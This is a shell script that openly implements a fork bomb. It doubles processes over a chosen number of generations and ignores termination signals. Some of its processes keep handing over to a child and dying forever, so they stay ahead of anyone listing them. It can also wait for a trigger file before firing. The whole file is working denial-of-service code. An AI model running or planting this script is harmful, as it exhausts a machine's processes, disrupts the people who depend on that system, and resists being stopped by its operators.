#!/bin/sh
# A fork bomb of bounded size: "$1" generations that double, 2 ** ("$1" + 1) processes, of which LINES hand over to a child
# and die, for ever, so that whoever lists them is always late; more of them would die faster than an init can reap, and
# leave the machine without pids. They do not care for signals. It goes off when the file "$2" is there, if that is given.
LINES=16
trap '' TERM INT HUP QUIT

# A shell that calls a function from itself a thousand times gives up, also if it was forked in between.
export HOP='hops=0
hop() {
  hops=$((hops + 1))
  if [ "$hops" -gt 500 ]; then exec sh -c "$HOP"; fi
  hop &
}
hop'

# "$1" generations, with "$2" lines among their last.
bomb() {
  if [ "$1" -gt 0 ]; then
    bomb $(($1 - 1)) $((($2 + 1) / 2)) &
    bomb $(($1 - 1)) $(($2 / 2)) &
  elif [ "$2" -gt 0 ]; then
    exec sh -c "$HOP"
  fi
  exec sleep 1000
}

until [ -z "${2-}" ] || [ -e "$2" ]; do sleep 0.1; done
bomb "${1:-7}" "$LINES"
